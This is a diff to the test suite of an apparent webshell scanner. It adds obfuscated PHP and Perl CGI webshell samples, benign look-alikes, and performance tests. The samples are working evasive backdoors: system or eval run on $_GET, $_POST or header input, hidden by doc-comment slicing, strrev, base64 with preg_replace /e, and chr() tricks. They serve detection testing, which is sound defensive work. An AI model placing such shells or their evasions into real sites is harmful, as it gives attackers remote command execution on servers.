@@ -50,7 +50,39 @@ const MALICIOUS: [string, string, string][] = [
   [
     'a function name and its argument cut out of a class doc comment with substr and strpos, then called',
     '/var/www/html/c7.php',
-    `<?php\n/**\n * sys\n * tem($_GET\n * ["q"]);\n */\nclass Notes { }\n$ref = new ReflectionClass('Notes');\n$doc = $ref->getDocComment();\n$name = substr($doc, strpos($doc, 'sy'), 3);\n$name .= substr($doc, strpos($doc, 'te'), 3);\n$arg = substr($doc, strpos($doc, '$_'), 5);\n$name($arg);\n`,
+    `<?php\n/**\n * sys\n * tem($_GET\n * ["q"]);\n */\nclass Notes { }\n$ref = new ReflectionClass('Notes');\n$doc = $ref->getDocComment();\n$name = substr($doc, strpos($doc, 'sy'), 3);\n$name .= substr($doc, strpos($doc, 'te'), 3);\n$arg = substr($doc, strpos($doc, '$_'), 5);\n$arg .= substr($doc, strpos($doc, '["'), 5);\n$name($arg);\n`,
+  ],
+  [
+    'a Perl CGI shell kept as a .php behind a line of PHP: its form read into %in, the command joined after a cd and opened with " |"',
+    '/var/www/html/tools.php',
+    `<?php echo 'ok'; ?>\n#!/usr/bin/perl\nsub ReadForm {\n  if ($ENV{'REQUEST_METHOD'} eq "POST") { read(STDIN, $buf, $ENV{'CONTENT_LENGTH'}); } else { $buf = $ENV{'QUERY_STRING'}; }\n  foreach my $pair (split(/&/, $buf)) { my ($k, $v) = split(/=/, $pair, 2); $v =~ s/%(..)/pack("c", hex($1))/ge; $in{$k} = $v; }\n}\n&ReadForm;\n$Sep = ";";\n$Run = $in{'x'};\n$Line = "cd \\"$in{'d'}\\"" . $Sep . $Run . " 2>&1";\n$Line .= " |";\nprint "Content-type: text/plain\\n\\n";\nopen(OUTPUT, $Line);\nprint while (<OUTPUT>);\n`,
+  ],
+  [
+    'a CGI.pm script opening a command text made of a parameter with "-|"',
+    '/usr/lib/cgi-bin/run.cgi',
+    `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint $q->header;\nopen(my $fh, "-|", "$c 2>&1") or die;\nprint while <$fh>;\n`,
+  ],
+  // (red team S39R's evasions of the first forms)
+  [
+    'the joined name and the superglobal in pieces with line comments (#) between, each to its line\'s end',
+    '/var/www/html/c8.php',
+    `<?php\n$k = "ys"#a\n."st"#b\n."em";\n$k = "s".$k;\n$k#c\n($#d\n{"_G"#e\n."ET"}["q"]);\n`,
+  ],
+  ['a bare word in capitals given to strrev (PHP knows no case in function names)', '/var/www/html/c9.php', `<?php\n$f = @strrev(TRESSA);\n@$f($_POST['q']);\n`],
+  [
+    'preg_replace /e running a base64 literal of 24 characters, decoded by reference',
+    '/var/www/html/c10.php',
+    `<?php\n$code = "${b64("eval($_POST['z']);")}";\nfunction clean(&$v) { $v = base64_decode($v); }\nclean($code);\npreg_replace('/page/e', '@' . $code, 'page');\n`,
+  ],
+  [
+    'the same running a command named by a request header, in 64 characters of base64',
+    '/var/www/html/c11.php',
+    `<?php\n$code = "${b64("system(getenv('HTTP_X_RUN_THIS_COMMAND_NOW'));")}";\nfunction clean(&$v) { $v = base64_decode($v); }\nclean($code);\npreg_replace('/page/e', '@' . $code, 'page');\n`,
+  ],
+  [
+    'chr() of numbers written with separators, signs, fractions, shifts, quotes and mb_chr',
+    '/var/www/html/c12.php',
+    `<?php\npreg_replace(chr(0x2_f).chr(-0x9f).chr(98.0).chr(0xc6 >> 1).chr("47").mb_chr(0x65), ${chrs('@eval($_POST[k]);', 10)}, 'abc');\n`,
   ],
 ];
 
@@ -75,6 +107,32 @@ const LOOKALIKES: [string, string, string][] = [
     '/var/www/html/lib/settings.php',
     `<?php\n$banner = "${b64('Welcome to our shop. Orders placed before noon are shipped the same day; returns are free within thirty days of delivery.')}";\necho base64_decode($banner);\n`,
   ],
+  [
+    'a CGI.pm script running git with a parameter as an argument (the list forms of open and system run no shell)',
+    '/usr/lib/cgi-bin/log.cgi',
+    `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $h = $q->param('h');\nopen my $fd, "-|", "git", "cat-file", "-p", $h or die;\nsystem("git", "log", $h);\nprint while <$fd>;\n`,
+  ],
+  [
+    'a CGI.pm script whose comments and manual quote a command with a parameter',
+    '/usr/lib/cgi-bin/doc.cgi',
+    `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\n# do not write \x60ls $q->param('d')\x60 here: it would run a shell\nmy $d = $q->param('d');\nprint $q->header, $q->escapeHTML($d);\n\n=head1 NOTES\n\nOld versions ran \x60cat $d\x60 and system("ls $d").\n\n=cut\n`,
+  ],
+  // (red team S39R's false positives of the first forms, written again by us)
+  [
+    'an annotation router taking whole values out of doc comments and calling the handler it found',
+    '/var/www/html/lib/Router.php',
+    `<?php\nfinal class Router {\n  private $routes = [];\n  public function add($class) {\n    foreach ((new ReflectionClass($class))->getMethods() as $m) {\n      $doc = $m->getDocComment();\n      $path = substr($doc, strpos($doc, '@Path(') + 7);\n      $verb = substr($doc, strpos($doc, '@Verb(') + 7, 4);\n      $name = substr($doc, strpos($doc, '@Name(') + 7);\n      $this->routes[$verb . $path] = [$class, $m->getName(), $name];\n    }\n  }\n  public function run($key) {\n    $handler = [new $this->routes[$key][0](), $this->routes[$key][1]];\n    $request = ['q' => $_GET];\n    $handler($request);\n  }\n}\n`,
+  ],
+  [
+    'a PHP 5 BBCode parser running /e with its own replacement over a posted text, its tag between delimiters',
+    '/var/www/html/lib/bbcode.php',
+    `<?php\nfunction bb($text, $tag) {\n  return preg_replace('/\\[' . $tag . '\\](.*?)\\[\\/' . $tag . '\\]/ise', "'<' . '$tag' . '>' . htmlspecialchars('\\\\1') . '</' . '$tag' . '>'", $text);\n}\necho bb($_POST['msg'], 'b');\n`,
+  ],
+  [
+    'a security plugin\'s list of webshell snippets kept as short base64 in an array',
+    '/var/www/html/lib/signatures.php',
+    `<?php\nreturn array(\n  array('S-1', '${b64("eval($_POST['x']);")}', 'high'),\n  array('S-2', '${b64("system($_REQUEST['cmd']);")}', 'high'),\n);\n`,
+  ],
 ];
 
 describe('scan: held-out set H23\'s techniques (session 39)', () => {
@@ -84,19 +142,32 @@ describe('scan: held-out set H23\'s techniques (session 39)', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 7));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 14));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 4));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 9));
   it('reads chr() of hexadecimal, binary and octal numbers as PHP does (0165 is octal)', () => {
     assert.equal(normalizeStrings("x(chr(0x73).chr(0b1111001).chr(0163).chr(0o164).chr(101).chr(0x6c + 1))"), "x('system')");
   });
-  it('reads a bare word given to strrev as its name, but not a constant in capitals', () => {
+  it('reads white space after chr(, strtolower( and a Perl system in bounded time (red team S39R\'s quadratic patterns)', () => {
+    const sp = ' '.repeat(200_000);
+    for (const [src, path] of [
+      [`<?php\n$a = chr(${sp}x);\n$b = chr(-${sp}x);\n$c = chr("${sp}");\n`, '/var/www/html/w1.php'],
+      [`<?php\n$a = strtolower(${sp}x\n);\n$b = base64_decode(@${sp});\n`, '/var/www/html/w2.php'],
+      [`#!/usr/bin/perl\nuse CGI;\n$a = $in{1};\n$b .=${sp}x;\nsystem ${sp}\nopen(${sp}\n`, '/usr/lib/cgi-bin/w3.cgi'],
+    ] as const) {
+      const r = scan(src, path);
+      assert.notEqual(r.verdict, 'malicious', why(r));
+    }
+  });
+  it('reads a bare word given to strrev as its name, but not one of PHP\'s constants', () => {
     assert.equal(normalizeStrings('$f = strrev(metsys);'), "$f = 'system';");
     assert.equal(normalizeStrings('$f = strrev(PHP_EOL);'), undefined);
+    assert.equal(normalizeStrings("define('KEY', 'x');\n$f = strrev(KEY);"), undefined);
+    assert.equal(normalizeStrings('$f = strrev(METSYS);'), "$f = 'SYSTEM';");
   });
 });
